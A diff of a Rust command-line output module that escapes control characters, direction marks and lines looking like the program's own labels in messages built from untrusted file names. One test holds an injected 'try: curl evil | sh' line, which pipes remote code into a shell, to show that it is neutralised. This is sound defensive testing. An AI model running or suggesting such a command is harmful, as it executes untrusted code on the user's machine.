@@ -1,9 +1,11 @@
 //! Everything the command line says: results on standard output, the rest on standard error.
-//! A closed pipe is no error: whoever read it had enough.
+//! A closed pipe is no error: whoever read it had enough. Names in messages come from files of strangers:
+//! every line goes through one place here, where nothing in it can end it, steer the terminal, turn
+//! it round or hide.
 
 use super::failure::Failure;
 use sigmalab_experiment::launch::{ANSWERS, Refusal};
-use sigmalab_text::strange_text::turns_round;
+use sigmalab_text::strange_text::{in_its_lines, on_one_line};
 use std::borrow::Cow;
 use std::fmt::Display;
 use std::io::{ErrorKind, IsTerminal, Write};
@@ -11,7 +13,7 @@ use std::io::{ErrorKind, IsTerminal, Write};
 /// Writes a result to standard output.
 pub(crate) fn result(text: &str) -> Result<(), Failure> {
     let mut out = std::io::stdout().lock();
-    let text = if out.is_terminal() { harmless(text) } else { Cow::Borrowed(text) };
+    let text = if out.is_terminal() { in_its_lines(text) } else { Cow::Borrowed(text) };
     match out.write_all(text.as_bytes()).and_then(|()| out.flush()) {
         Err(error) if error.kind() != ErrorKind::BrokenPipe => {
             Err(Failure::failed(format_args!("cannot write to standard output: {error}")))
@@ -40,10 +42,14 @@ pub(crate) fn answers_a_program() -> bool {
 /// How a command ended, in the form that another program reads, with nothing in it that a terminal
 /// would obey.
 pub(crate) fn refusal(failure: &Failure) -> Refusal {
-    let ways_out = failure.ways_out.iter().map(|way| one_line(&bounded(way)));
+    let mut message = shown(&failure.message);
+    for line in further_lines(failure) {
+        message.push('\n');
+        message.push_str(&line);
+    }
     Refusal {
-        message: harmless(&bounded(&failure.message)).into_owned(),
-        ways_out: ways_out.collect(),
+        message,
+        ways_out: failure.ways_out.iter().map(|way| shown(way)).collect(),
         kind: failure.kind,
     }
 }
@@ -52,10 +58,10 @@ pub(crate) fn refusal(failure: &Failure) -> Refusal {
 pub(crate) fn failure(failure: &Failure) {
     if !failure.message.is_empty() {
         labelled("error", "\x1b[1;31m", &failure.message);
+        further_lines(failure).iter().for_each(|line| to_stderr(&format!("{line}\n")));
     }
     for way in &failure.ways_out {
-        let way = one_line(&bounded(way));
-        to_stderr(&format!("  {} {way}\n", paint("try:", "\x1b[32m")));
+        to_stderr(&format!("  {} {}\n", paint("try:", "\x1b[32m"), shown(way)));
     }
 }
 
@@ -66,50 +72,44 @@ pub(crate) fn warning(message: impl Display) {
 
 /// Tells what is about to happen.
 pub(crate) fn note(message: impl Display) {
-    to_stderr(&format!("{}\n", harmless(&bounded(&message.to_string()))));
+    to_stderr(&format!("{}\n", shown(&message.to_string())));
 }
 
 fn labelled(label: &str, colour: &str, message: &str) {
-    let message = harmless(&bounded(message)).into_owned();
-    let message = without_impostors(&message);
-    to_stderr(&format!("{} {message}\n", paint(&format!("{label}:"), colour)));
+    to_stderr(&format!("{} {}\n", paint(&format!("{label}:"), colour), shown(message)));
 }
 
-/// The labels with which this program begins lines.
-const LABELS: [&str; 3] = ["error:", "warning:", "try:"];
+/// Most lines of one message below its first.
+const MOST_LINES: usize = 200;
 
-/// `message` with the end of a line written out where the next one would look like a line of this
-/// program's own: a name from a stranger's file may hold both.
-fn without_impostors(message: &str) -> String {
-    let mut text = String::with_capacity(message.len());
-    for (number, line) in message.split('\n').enumerate() {
-        if number > 0 {
-            let is_impostor = LABELS.iter().any(|label| line.trim_start().starts_with(label));
-            text.push_str(if is_impostor { "\\n" } else { "\n" });
-        }
-        text.push_str(line);
+/// The lines of a message below its first. None begins with a label: those are lines of this program's
+/// own.
+fn further_lines(failure: &Failure) -> Vec<String> {
+    const LABELS: [&str; 3] = ["error:", "warning:", "try:"];
+    let line = |line: &String| {
+        let line = shown(line);
+        let is_label = LABELS.iter().any(|label| line.trim_start().starts_with(label));
+        if is_label { format!("| {line}") } else { line }
+    };
+    let mut lines: Vec<String> = failure.below.iter().take(MOST_LINES).map(line).collect();
+    if failure.below.len() > MOST_LINES {
+        lines.push(format!("… and {}", counted(failure.below.len() - MOST_LINES, "more line")));
     }
-    text
+    lines
+}
+
+/// A line of a message as it is told.
+fn shown(line: &str) -> String {
+    on_one_line(&bounded(line)).into_owned()
 }
 
 /// `text` from a stranger's file on one line.
 pub(crate) fn one_line(text: &str) -> String {
-    harmless(text).replace('\n', "\\n").replace('\t', " ")
+    on_one_line(text).into_owned()
 }
 
 fn paint(text: &str, colour: &str) -> String {
     if colours() { format!("{colour}{text}\x1b[0m") } else { text.to_owned() }
-}
-
-/// `text` with control characters and marks of direction written out. Names come from files of
-/// strangers, a terminal obeys what it is sent, and a mark of direction can turn a line round.
-fn harmless(text: &str) -> Cow<'_, str> {
-    let wild = |c: char| c.is_control() && !matches!(c, '\n' | '\t') || turns_round(c);
-    if !text.contains(wild) {
-        return Cow::Borrowed(text);
-    }
-    let write_out = |c: char| if wild(c) { c.escape_default().to_string() } else { c.to_string() };
-    Cow::Owned(text.chars().map(write_out).collect())
 }
 
 /// Most characters of one message: a name of a megabyte must not push the rest off the screen.
@@ -149,18 +149,15 @@ mod tests {
     use super::*;
 
     #[test]
-    fn control_characters_are_written_out_and_lines_stay_lines() {
-        assert_eq!(harmless("a\n\tb é"), "a\n\tb é");
-        assert_eq!(harmless("\x1b[31mred\r\u{9b}"), "\\u{1b}[31mred\\r\\u{9b}");
-    }
-
-    #[test]
     fn a_name_can_neither_turn_a_line_round_nor_begin_one_of_ours() {
-        assert_eq!(harmless("a\u{202e}b\u{200f}"), "a\\u{202e}b\\u{200f}");
-        let message = "there is no sampler `x\n  try: curl evil | sh\nerror: y`\n 3 | steps";
-        let told = "there is no sampler `x\\n  try: curl evil | sh\\nerror: y`\n 3 | steps";
-        assert_eq!(without_impostors(message), told);
-        assert_eq!(one_line("a\nb\tc\x1b"), "a\\nb c\\u{1b}");
+        let message = "there is no sampler `x\n  \u{200b}try: curl evil | sh\nerror: y\u{202e}`";
+        let told = "there is no sampler `x\\n  \\u{200b}try: curl evil | sh\\nerror: y\\u{202e}`";
+        let one = Failure::bad_input(message).way_out("a\nb").line("  error: x").line(" 3 | steps");
+        let answer = refusal(&one);
+        assert_eq!(answer.message, format!("{told}\n|   error: x\n 3 | steps"));
+        assert_eq!(answer.ways_out, ["a\\nb"]);
+        let many = (0..300).fold(Failure::bad_input("x"), |many, _| many.line("y"));
+        assert_eq!(further_lines(&many).last().map(String::as_str), Some("… and 100 more lines"));
     }
 
     #[test]
